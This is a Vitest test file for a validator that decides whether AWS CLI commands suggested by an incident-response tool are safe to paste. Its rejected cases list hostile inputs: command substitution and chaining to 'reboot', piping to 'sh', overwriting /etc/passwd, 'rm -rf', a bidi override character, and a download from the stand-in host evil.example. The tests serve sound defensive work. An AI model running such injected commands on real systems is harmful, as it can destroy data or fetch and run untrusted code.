import { expect, it } from 'vitest';
import { safeCommand } from '#lib/report/safe-command.ts';

it.each([
  'aws iam get-role --role-name deploy',
  'aws iam detach-user-policy --user-name a --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
  "npm run -s tourniquet -- investigate AKIATOURNIQUETTEST01 --contain --also 'AWS::IAM::User x'",
  'aws sqs get-queue-attributes --queue-url https://sqs.eu-west-1.amazonaws.com/111122223333/jobs --attribute-names Policy',
  "aws iam list-users --query 'Users[].UserName'",
])('may be pasted: %s', (command) => {
  expect(safeCommand(command)).toBe(command);
});

it.each([
  undefined,
  '',
  'aws',
  'stop it by hand',
  'rm -rf x',
  'aws iam get-role --role-name $(reboot)',
  'aws iam get-role --role-name `reboot`',
  'aws iam get-role; reboot',
  'aws iam get-role && reboot',
  'aws iam get-role | sh',
  'aws iam get-role > /etc/passwd',
  'aws iam get-role --role-name =ls',
  'aws iam get-role --role-name "a"',
  "aws iam get-role --role-name 'a",
  "aws iam get-role --role-name 'a\nb'",
  'aws iam get-role --role-name a\nreboot',
  'aws iam get-role --role-name a\u202eb',
  'aws iam get-role --role-name x* {a,b} ~',
  'aws iam get-role  --role-name a',
  'aws s3 cp https://evil.example/x .',
  'aws sqs x --queue-url https://sqs.evil.example/.amazonaws.com/111122223333/jobs',
  'aws iam get-role --role-name www.evil.example',
  `aws iam get-role --role-name ${'a'.repeat(2_000)}`,
])('may not be pasted: %j', (command) => {
  expect(safeCommand(command)).toBeUndefined();
});
